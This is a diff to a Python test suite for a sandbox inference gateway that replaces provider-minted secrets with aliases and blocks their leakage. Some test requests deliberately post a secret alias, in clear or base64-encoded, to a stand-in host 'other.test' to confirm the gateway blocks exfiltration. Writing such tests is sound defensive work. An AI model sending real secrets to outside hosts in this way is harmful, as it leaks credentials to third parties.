@@ -9,6 +9,7 @@ results are retrieved."""
 from __future__ import annotations
 
 import asyncio
+import base64
 import gzip
 import json
 import os
@@ -32,6 +33,8 @@ from fakes.inference import FakeInference
 from fakes.realtime import FakeRealtime
 from helpers.gateway import GatewayFactory, GatewayThread
 
+from gateway.core.leaks import canonical, sensitive_markers
+from gateway.observability.logs import REDACTED, REDACTION
 from gateway.tools.sandbox_env import sandbox_env
 
 KEY = "sk-fake-provider-key"
@@ -311,7 +314,36 @@ def test_responses_over_websocket(gw: GatewayThread, ws: FakeRealtime) -> None:
     assert _usage(gw)["totals"]["output_tokens"] == 6000
 
 
-# 5. Secrets the provider mints: refused by default; allowed, bound like the key.
+# 5. Secrets the provider mints: refused by default; allowed, the sandbox gets an alias.
+def _received(answer: httpx.Response) -> bytes:
+    """All a client received: the status line, the header fields, the body."""
+    fields = b"".join(k + b": " + v + b"\n" for k, v in answer.headers.raw)
+    return f"{answer.status_code} {answer.reason_phrase}\n".encode() + fields + answer.content
+
+
+def _carries(data: bytes, secret: str) -> bool:
+    """`secret` in `data` in any encoding the leak scan knows (raw, base64, hex, %-,
+    JSON-escaped, any case)."""
+    text = canonical(data)
+    return any(marker in text for marker in sensitive_markers(secret.encode()))
+
+
+async def _realtime(gw: GatewayThread, token: str, sandbox: str,
+                    **connect: Any) -> list[str]:
+    """One Realtime session through the gateway (the asyncio client: one thread per TLS
+    session): session.created, a response; the server events' types."""
+    seen: list[str] = []
+    async with websockets.asyncio.client.connect(
+            f"wss://{WS_HOST}/v1/realtime?model=gpt-realtime", open_timeout=10,
+            proxy=gw.proxy_url(token, sandbox),
+            ssl=ssl.create_default_context(cafile=gw.ca_cert), **connect) as conn:
+        seen.append(json.loads(await conn.recv())["type"])
+        await conn.send(json.dumps({"type": "response.create"}))
+        while seen[-1] != "response.done":
+            seen.append(json.loads(await asyncio.wait_for(conn.recv(), 10))["type"])
+    return seen
+
+
 def test_provider_minted_secrets(gw: GatewayThread, fake: FakeInference,
                                  ws: FakeRealtime) -> None:
     session = {"type": "realtime", "model": "gpt-realtime"}
@@ -322,46 +354,72 @@ def test_provider_minted_secrets(gw: GatewayThread, fake: FakeInference,
     assert "allow_minted_secrets: true" in refused.value.message
     assert fake.minted == []
 
+    # Allowed: the sandbox receives an alias of the secret's shape, never the secret.
     token = gw.mint("free", sandbox="sandbox-2")
     with _oai(gw, token, "sandbox-2") as client:
-        secret = client.realtime.client_secrets.create(session=session)  # type: ignore[arg-type]
-    assert fake.minted == [secret.value] and secret.value.startswith("ek_")
-    # Back to the provider, from the sandbox that minted it: it goes on as sent, metered.
-    async def session() -> None:  # (the asyncio client: one thread per TLS session)
-        async with websockets.asyncio.client.connect(
-                f"wss://{WS_HOST}/v1/realtime?model=gpt-realtime", open_timeout=10,
-                proxy=gw.proxy_url(token, "sandbox-2"),
-                ssl=ssl.create_default_context(cafile=gw.ca_cert),
-                additional_headers={"Authorization": f"Bearer {secret.value}"}) as conn:
-            assert json.loads(await conn.recv())["type"] == "session.created"
-            await conn.send(json.dumps({"type": "response.create"}))
-            while json.loads(await asyncio.wait_for(conn.recv(), 10))["type"] != \
-                    "response.done":
-                pass
+        raw = client.realtime.client_secrets.with_raw_response.create(
+            session=session)  # type: ignore[arg-type]
+        alias = raw.parse().value
+    [secret] = fake.minted
+    assert alias != secret and alias.startswith("ek_") and len(alias) == len(secret)
+    assert not _carries(_received(raw.http_response), secret)
+    with _http(gw, token, "sandbox-2") as http:  # the older sessions' shape
+        older = http.post("https://api.openai.com/v1/realtime/sessions",
+                          json={"model": "gpt-4o-realtime-preview"},
+                          headers={"Authorization": f"Bearer {token}"})
+    assert older.status_code == 200, older.text
+    older_alias, older_secret = older.json()["client_secret"]["value"], fake.minted[-1]
+    assert older_alias != older_secret and not _carries(_received(older), older_secret)
 
-    asyncio.run(session())
-    assert ws.upgrades[-1]["authorization"] == f"Bearer {secret.value}"
-    [line] = _lines(gw, 1, path="/v1/realtime", decision="allow")
-    assert line["credential"] == "openai" and line["usage"]["output_tokens"] == 20
-    # Anywhere else it is the key: refused; another sandbox cannot use it either.
+    # The alias back to the credential's hosts from this sandbox: the provider gets the
+    # secret in its place, and the call is metered on the same rule.
+    with openai.OpenAI(api_key=older_alias, http_client=_http(gw, token, "sandbox-2"),
+                       max_retries=0) as aliased:
+        answer = aliased.responses.create(model="gpt-4o-mini", input="hello")
+    assert answer.usage is not None
+    assert fake.requests[-1].headers["authorization"] == f"Bearer {older_secret}"
+    assert asyncio.run(_realtime(gw, token, "sandbox-2", additional_headers={
+        "Authorization": f"Bearer {alias}"}))[-1] == "response.done"
+    assert ws.upgrades[-1]["authorization"] == f"Bearer {secret}"
+    # (a browser's way: the key as a WebSocket subprotocol)
+    asyncio.run(_realtime(gw, token, "sandbox-2", subprotocols=[
+        "realtime", f"openai-insecure-api-key.{alias}"]))
+    offered = ws.upgrades[-1]["sec-websocket-protocol"]
+    assert f"openai-insecure-api-key.{secret}" in offered and alias not in offered
+    lines = _lines(gw, 2, path="/v1/realtime", decision="allow")
+    assert all(line["credential"] == "openai" and line["usage"]["output_tokens"] == 20
+               for line in lines)
+    [line] = _lines(gw, 1, path="/v1/responses", decision="allow", sandbox="sandbox-2")
+    assert line["usage"]["output_tokens"] == answer.usage.output_tokens
+
+    # Anywhere else the alias is refused like a token: another allowed host, in clear
+    # or encoded, or a body to its own host.
     with _http(gw, token, "sandbox-2") as http:
-        leaked = http.post("https://other.test/collect",
-                           content=json.dumps({"s": secret.value}))
-    assert leaked.status_code == 403 and leaked.json()["error"] == "exfiltration_blocked"
-    assert secret.value not in gw.audit.getvalue()
+        for host, body in [("other.test", json.dumps({"s": alias})),
+                           ("other.test", base64.b64encode(alias.encode()).decode()),
+                           ("api.openai.com", json.dumps({"input": alias}))]:
+            leaked = http.post(f"https://{host}/v1/responses", content=body,
+                               headers={"Authorization": f"Bearer {token}"})
+            assert leaked.status_code == 403, (host, leaked.text)
+            assert "exfiltration_blocked" in leaked.text
+    # Another sandbox cannot use it, over HTTP or WebSocket.
     other = gw.mint("free", sandbox="sandbox-3")
-
-    async def stranger() -> None:
-        async with websockets.asyncio.client.connect(
-                f"wss://{WS_HOST}/v1/realtime?model=gpt-realtime", open_timeout=10,
-                proxy=gw.proxy_url(other, "sandbox-3"),
-                ssl=ssl.create_default_context(cafile=gw.ca_cert),
-                additional_headers={"Authorization": f"Bearer {secret.value}"}):
-            pass
-
+    with openai.OpenAI(api_key=older_alias, http_client=_http(gw, other, "sandbox-3"),
+                       max_retries=0) as stranger, \
+            pytest.raises(openai.PermissionDeniedError) as refused:
+        stranger.responses.create(model="gpt-4o-mini", input="hello")
+    assert "exfiltration_blocked" in str(refused.value.body)
     with pytest.raises(websockets.exceptions.InvalidStatus) as refused_upgrade:
-        asyncio.run(stranger())
-    assert refused_upgrade.value.response.status_code == 407
+        asyncio.run(_realtime(gw, other, "sandbox-3", additional_headers={
+            "Authorization": f"Bearer {alias}"}))
+    assert refused_upgrade.value.response.status_code == 403
+    assert len(ws.upgrades) == 2 and fake.requests[-1].headers["authorization"] == \
+        f"Bearer {older_secret}"  # (nothing more reached the providers)
+    # Neither the secrets nor the aliases are on the audit trail, or in a log line.
+    trail = gw.audit.getvalue()
+    assert not any(v in trail for v in (secret, alias, older_secret, older_alias))
+    for value in (secret, alias, older_secret, older_alias):
+        assert REDACTION.redact(f"x {value} y") == f"x {REDACTED} y"
 
 
 def test_policy_test_decides_like_the_gateway(gw: GatewayThread, tmp_path: Path,
